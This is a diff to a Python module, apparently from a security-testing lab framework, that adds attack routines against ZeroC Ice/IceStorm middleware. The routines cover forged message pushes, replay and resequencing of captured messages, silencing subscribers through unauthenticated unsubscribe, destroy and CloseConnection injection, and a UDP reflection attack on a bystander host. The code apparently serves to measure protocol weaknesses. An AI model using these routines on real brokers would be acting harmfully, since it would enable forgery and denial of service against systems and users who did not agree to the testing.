@@ -1,24 +1,50 @@
 """Ice and IceStorm: a broker that knows certificates at most, and no rights to topics."""
 
+import time
 from typing import TYPE_CHECKING, Any
 
+from comseclab.attack import icep, icestorm
 from comseclab.attack.base import Rogue
 from comseclab.attack.dialect import Dialect, Prepared, Setting
 from comseclab.attack.frame import TCP, Frame
+from comseclab.attack.icep import Identity
+from comseclab.attack.icestorm import Call
+from comseclab.attack.path import passes
 from comseclab.middleware.base import Material, Place
+from comseclab.middleware.ice import MANAGER_PORT, PUBLISH_PORT
 from comseclab.protection import tls
+from comseclab.protection.proof import sentinels
 from comseclab.trial.spec import Factors
 
 if TYPE_CHECKING:
+    from collections.abc import Iterable
+
     from comseclab.attack.scene import Scene
+
+REPLAYED = 20
+"""Messages sent again."""
+PATIENCE_S = 0.5
+FORGED = 5
+"""Messages sent to each who might take them."""
+REFLECTED_PORT = 7400
+SILENCES = {
+    "unsubscribe": "a stranger's call to the topic that ends the subscription (IceStorm::Topic::unsubscribe)",
+    "destroy": "a stranger's call that destroys the topic (IceStorm::Topic::destroy)",
+    "close": "a message CloseConnection of Ice put into the broker's connection to the subscriber",
+}
 
 
 class Ice(Dialect):
+    """The broker is on the writer's host, so what shows of the stream is its way from broker to subscriber."""
+
     stacks = ("ice",)
+    silences = SILENCES
 
     def refuse(self, attack: str, factors: Factors) -> str | None:
         if attack == "self-signed-permissions":
             return "IceStorm knows no permissions: whoever may connect may do everything"
+        if attack == "reflection":
+            return None
         return super().refuse(attack, factors)
 
     def prepare(self, setting: Setting) -> Prepared:
@@ -32,10 +58,7 @@ class Ice(Dialect):
         return Prepared(material, settings)
 
     def is_message(self, frame: Frame, scene: "Scene") -> bool:
-        """Of the broker's frames to the subscriber, those with a message, in clear or as TLS records.
-
-        The broker is on the writer's host, so the way from publisher to broker never shows.
-        """
+        """Of the broker's frames to the subscriber, those with a message, in clear or as a TLS record."""
         stream = scene.spec.trial.streams[0]
         return (
             frame.protocol == TCP
@@ -44,14 +67,77 @@ class Ice(Dialect):
             and len(frame.payload) > stream.max_size // 2
         )
 
+    def forge(self, scene: "Scene") -> None:
+        """Publish at the broker, and push to the subscriber itself as only the broker should."""
+        message = _forged(scene)
+        topic = icestorm.publisher(scene)
+        icestorm.ask(scene, scene.writer.address, PUBLISH_PORT, [Call(topic, "push", message)] * FORGED)
+        if place := _subscriber(scene):
+            address, port, subscriber = place
+            icestorm.ask(scene, address, port, [Call(subscriber, "push", message)] * FORGED)
+
+    def replay(self, scene: "Scene", *, resequenced: bool) -> None:
+        """Over a fresh connection to the subscriber; resequenced: in the broker's own connection, each in place of a
+        newer message and under its request number, as if TCP carried it just then.
+
+        A subscriber that was restarted has a fresh connection anyhow, which is where old messages count as new.
+        """
+        recorded = [frame.payload for frame in scene.messages()][:REPLAYED]
+        if resequenced and scene.restarted_ns is None:
+            self._put_back(scene, recorded)
+        elif place := _subscriber(scene):
+            icestorm.resend(scene, place[0], place[1], recorded)
+
+    def _put_back(self, scene: "Scene", recorded: list[bytes]) -> None:
+        left = list(reversed(recorded))
+
+        def swap(frame: Frame) -> "Iterable[tuple[float, Frame]]":
+            if not (left and self.is_message(frame, scene) and len(frame.payload) == len(left[-1])):
+                return ((0.0, frame),)
+            old, scene.targeted = left.pop(), scene.targeted + 1
+            if old.startswith(icep.HEADER):
+                old = icep.renumbered(old, icep.number_of(frame.payload))
+            return ((0.0, frame.with_payload(old)),)
+
+        scene.follow(swap)
+
+    def silence(self, scene: "Scene", message: str) -> None:
+        topic = icestorm.topic(scene)
+        if message == "close":
+            self._close(scene)
+        elif message == "destroy":
+            icestorm.ask(scene, scene.writer.address, MANAGER_PORT, [Call(topic, "destroy")])
+        elif replies := icestorm.ask(
+            scene, scene.writer.address, MANAGER_PORT, [Call(topic, "getSubscribers", idempotent=True)]
+        ):
+            subscribers = icep.take_identities(replies[0].results)
+            calls = [Call(topic, "unsubscribe", _proxy(scene, one), idempotent=True) for one in subscribers]
+            icestorm.ask(scene, scene.writer.address, MANAGER_PORT, calls)
+
+    def _close(self, scene: "Scene") -> None:
+        def rule(frame: Frame) -> "Iterable[tuple[float, Frame]]":
+            if self.is_message(frame, scene):
+                scene.follow(passes)
+                scene.inject_on_path(frame.with_payload(icep.message(icep.CLOSE)))
+            return ((0.0, frame),)
+
+        scene.follow(rule)
+
+    def reflect(self, scene: "Scene") -> None:
+        """Subscribe an object at the bystander's address, over UDP, where nobody has to agree to a connection."""
+        nobody = icep.proxy(Identity("bystander", ""), icep.UDP, scene.hosts["bystander"].address, REFLECTED_PORT)
+        call = Call(icestorm.topic(scene), "subscribeAndGetPublisher", icep.size(0) + nobody)
+        icestorm.ask(scene, scene.writer.address, MANAGER_PORT, [call])
+
 
 def _is_insider(rogue: Rogue) -> bool:
     return rogue.credentials in ("no-permission", "permitted")
 
 
 def _strange(setting: Setting, place: Place, genuine: Material) -> dict[str, Any]:
-    """What an outsider can have under TLS: the genuine authority's certificate, which is public, to accept the broker by; and
-    a certificate of an authority that it made itself."""
+    """What an outsider can have under TLS: the genuine authority's certificate, which is public, to accept the broker
+    by; and a certificate of an authority that it made itself.
+    """
     if setting.spec.protection.base == "none":
         return {}
     own = setting.spec.protection.model_copy(update={"keystore": None})
@@ -59,6 +145,52 @@ def _strange(setting: Setting, place: Place, genuine: Material) -> dict[str, Any
     files = tls.prepare(own, [party], setting.folder / "strange").files[place.node]
     ca = next(iter(genuine.files.values()))["identity_ca"]
     return {place.node: {**files, "identity_ca": ca}}
+
+
+def _subscriber(scene: "Scene") -> tuple[str, int, Identity] | None:
+    """Where the subscriber listens, and the name of its object: what the path shows, and in TLS how nodes are named."""
+    message = _latest(scene)
+    if message is None:
+        scene.note("no message shows where the subscriber listens")
+        return None
+    address, port = message.destination
+    try:
+        return address, port, icep.target_of(message.payload)
+    except ValueError:
+        stream = scene.spec.trial.streams[0]
+        return address, port, Identity(str(stream.id), f"{scene.reader.name}-subscriber")
+
+
+def _latest(scene: "Scene") -> Frame | None:
+    """The last message to the subscriber; to its new self, for which it may be waited a little, if it was restarted."""
+    until = time.monotonic() + PATIENCE_S
+    while True:
+        since_ns = scene.restarted_ns or 0
+        found = [frame for frame in scene.messages() if frame.at_ns >= since_ns]
+        if found or time.monotonic() > until:
+            return found[-1] if found else None
+        time.sleep(0.01)
+
+
+def _proxy(scene: "Scene", subscriber: Identity) -> bytes:
+    """A subscriber's; IceStorm knows it by its identity alone."""
+    return icep.proxy(subscriber, icep.TCP, scene.reader.address, 1)
+
+
+def _forged(scene: "Scene") -> bytes:
+    """Parameters of `push`: a message that the path shows, with the attacker's nonce in place of the writer's, or one
+    that is nothing but the nonce.
+    """
+    genuine, forged = sentinels(scene.spec.trial.nonce), sentinels(scene.spec.forged_nonce)
+    start = icep.string("push") + b"\0" + icep.NO_CONTEXT
+    for frame in reversed(scene.messages()):
+        _, found, parameters = frame.payload.partition(start)
+        if found:
+            for old, new in zip(genuine, forged, strict=True):
+                parameters = parameters.replace(old, new)
+            return parameters[icep.ENCAPSULATION_BYTES :]
+    content = forged[0] * (1 + scene.spec.trial.streams[0].max_size // len(forged[0]))
+    return icep.size(len(content)) + content
 
 
 DIALECT = Ice()
